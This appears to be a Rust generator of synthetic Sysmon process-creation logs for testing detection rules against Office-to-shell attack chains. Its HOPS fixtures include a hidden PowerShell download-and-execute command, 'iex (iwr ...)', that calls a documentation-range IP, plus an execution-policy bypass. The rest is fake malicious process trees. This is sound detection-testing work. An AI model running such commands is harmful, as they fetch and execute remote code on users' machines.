//! Synthetic Sysmon event 1 (process creation) records as JSON lines, flat
//! as Winlogbeat-less exports write them: what a week of Windows endpoint
//! telemetry looks like to a replay engine. Trees of a parent and one to
//! three descendants on 40 hosts; one tree in twenty is a document → shell
//! hop the curated T1204 rules match (Word → cmd → PowerShell, Excel → a
//! binary in the user's profile, wscript → PowerShell, a double-extension
//! download, Outlook → mshta). Deterministic: the same count gives the same
//! bytes.

use std::fs::File;
use std::io::{BufWriter, Write};
use std::path::Path;

use serde_json::json;

/// One process of a tree: image, `OriginalFileName`, command line, and the
/// index of its parent within the tree (`None`: the tree's root).
type Proc = (&'static str, &'static str, &'static str, Option<usize>);

const SYS: &str = "C:\\Windows\\System32\\";

/// Benign trees, roots first.
const BENIGN: &[&[Proc]] = &[
    &[
        (
            "explorer.exe",
            "EXPLORER.EXE",
            "C:\\Windows\\Explorer.EXE",
            None,
        ),
        (
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "chrome.exe",
            "\"chrome.exe\" --type=renderer --lang=en-US",
            Some(0),
        ),
        (
            "notepad.exe",
            "NOTEPAD.EXE",
            "notepad.exe C:\\Users\\{user}\\Documents\\todo.txt",
            Some(0),
        ),
    ],
    &[
        (
            "services.exe",
            "services.exe",
            "C:\\Windows\\system32\\services.exe",
            None,
        ),
        (
            "svchost.exe",
            "svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            Some(0),
        ),
        (
            "taskhostw.exe",
            "taskhostw.exe",
            "taskhostw.exe /RuntimeBroker",
            Some(1),
        ),
    ],
    &[
        (
            "cmd.exe",
            "Cmd.Exe",
            "C:\\Windows\\system32\\cmd.exe /c build.bat",
            None,
        ),
        (
            "conhost.exe",
            "CONHOST.EXE",
            "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
            Some(0),
        ),
        (
            "C:\\Program Files\\Microsoft Visual Studio\\2022\\MSBuild\\Current\\Bin\\MSBuild.exe",
            "MSBuild.exe",
            "MSBuild.exe app.sln /m",
            Some(0),
        ),
    ],
    &[
        (
            "explorer.exe",
            "EXPLORER.EXE",
            "C:\\Windows\\Explorer.EXE",
            None,
        ),
        (
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "WinWord.exe",
            "\"WINWORD.EXE\" /n \"C:\\Users\\{user}\\Documents\\quarterly report.docx\"",
            Some(0),
        ),
    ],
    &[
        (
            "svchost.exe",
            "svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
            None,
        ),
        (
            "wbem\\WmiPrvSE.exe",
            "Wmiprvse.exe",
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            Some(0),
        ),
    ],
];

/// Document → shell trees the curated rules alert on.
const HOPS: &[&[Proc]] = &[
    &[
        (
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "WinWord.exe",
            "\"WINWORD.EXE\" /n \"C:\\Users\\{user}\\Downloads\\invoice.doc\"",
            None,
        ),
        (
            "cmd.exe",
            "Cmd.Exe",
            "cmd.exe /c powershell -nop -w hidden -c \"iex (iwr http://203.0.113.7/a.ps1)\"",
            Some(0),
        ),
        (
            "WindowsPowerShell\\v1.0\\powershell.exe",
            "PowerShell.EXE",
            "powershell -nop -w hidden -c \"iex (iwr http://203.0.113.7/a.ps1)\"",
            Some(1),
        ),
    ],
    &[
        (
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
            "Excel.exe",
            "\"EXCEL.EXE\" \"C:\\Users\\{user}\\Downloads\\payroll.xls\"",
            None,
        ),
        (
            "C:\\Users\\{user}\\AppData\\Local\\Temp\\update.exe",
            "update.exe",
            "\"C:\\Users\\{user}\\AppData\\Local\\Temp\\update.exe\"",
            Some(0),
        ),
    ],
    &[
        (
            "wscript.exe",
            "wscript.exe",
            "\"wscript.exe\" \"C:\\Users\\{user}\\Downloads\\invoice.js\"",
            None,
        ),
        (
            "WindowsPowerShell\\v1.0\\powershell.exe",
            "PowerShell.EXE",
            "powershell.exe -ep bypass -f C:\\Users\\Public\\s.ps1",
            Some(0),
        ),
    ],
    &[
        (
            "explorer.exe",
            "EXPLORER.EXE",
            "C:\\Windows\\Explorer.EXE",
            None,
        ),
        (
            "C:\\Users\\{user}\\Downloads\\invoice.pdf.exe",
            "",
            "\"C:\\Users\\{user}\\Downloads\\invoice.pdf.exe\"",
            Some(0),
        ),
    ],
    &[
        (
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
            "OUTLOOK.EXE",
            "\"OUTLOOK.EXE\"",
            None,
        ),
        (
            "mshta.exe",
            "MSHTA.EXE",
            "mshta.exe \"C:\\Users\\{user}\\AppData\\Local\\Temp\\msg.hta\"",
            Some(0),
        ),
    ],
];

const USERS: [&str; 6] = ["alice", "bob", "carol", "dave", "erin", "frank"];
const HOSTS: u64 = 40;

/// A full path: images without a drive live in System32.
fn path(image: &str, user: &str) -> String {
    let full = if image.contains(':') {
        image.to_string()
    } else {
        format!("{SYS}{image}")
    };
    full.replace("{user}", user)
}

fn guid(host: u64, pid: u64) -> String {
    format!(
        "{{6a5e{host:04x}-1f2c-{:04x}-{:04x}-00155d{pid:06x}}}",
        pid >> 16 & 0xffff,
        pid & 0xffff
    )
}

/// Writes `count` records to `out`; returns how many are document → shell
/// trees' processes (the hops).
pub fn write(out: &Path, count: usize) -> std::io::Result<usize> {
    let mut w = BufWriter::with_capacity(1 << 20, File::create(out)?);
    let mut pids = [4000u64; HOSTS as usize];
    let mut written = 0usize;
    let mut hop_records = 0usize;
    let mut tree = 0usize;
    let start_ms: u64 = 1_785_900_000_000; // 2026-08-05
    while written < count {
        let host = (tree as u64 * 7) % HOSTS;
        let user = USERS[tree % USERS.len()];
        let hop = tree % 20 == 7;
        let shape: &[Proc] = if hop {
            HOPS[(tree / 20) % HOPS.len()]
        } else {
            BENIGN[tree % BENIGN.len()]
        };
        let mut own: Vec<(u64, String, String)> = Vec::with_capacity(shape.len());
        for (image, original, cmd, parent) in shape {
            if written == count {
                break;
            }
            let slot = &mut pids[host as usize];
            *slot = if *slot > 60_000 { 4000 } else { *slot + 4 };
            let pid = *slot;
            let image = path(image, user);
            let cmd = cmd.replace("{user}", user);
            let (ppid, parent_image, parent_cmd) = match parent.and_then(|p| own.get(p)) {
                Some((p, i, c)) => (*p, i.clone(), c.clone()),
                None => (
                    1000 + host,
                    "C:\\Windows\\System32\\userinit.exe".to_string(),
                    "C:\\Windows\\system32\\userinit.exe".to_string(),
                ),
            };
            let ms = start_ms + written as u64 * 3;
            let (secs, milli) = (ms / 1000, ms % 1000);
            let at = time::OffsetDateTime::from_unix_timestamp(secs as i64)
                .unwrap_or(time::OffsetDateTime::UNIX_EPOCH);
            let utc = format!(
                "{:04}-{:02}-{:02} {:02}:{:02}:{:02}.{milli:03}",
                at.year(),
                u8::from(at.month()),
                at.day(),
                at.hour(),
                at.minute(),
                at.second()
            );
            let record = json!({
                "EventID": 1,
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "Computer": format!("WS-{host:04}.corp.example"),
                "UtcTime": utc,
                "ProcessGuid": guid(host, pid),
                "ProcessId": pid,
                "Image": image,
                "OriginalFileName": original,
                "CommandLine": cmd,
                "User": format!("CORP\\{user}"),
                "ParentProcessGuid": guid(host, ppid),
                "ParentProcessId": ppid,
                "ParentImage": parent_image,
                "ParentCommandLine": parent_cmd,
            });
            serde_json::to_writer(&mut w, &record)?;
            w.write_all(b"\n")?;
            own.push((pid, image, cmd));
            written += 1;
            if hop {
                hop_records += 1;
            }
        }
        tree += 1;
    }
    w.flush()?;
    Ok(hop_records)
}
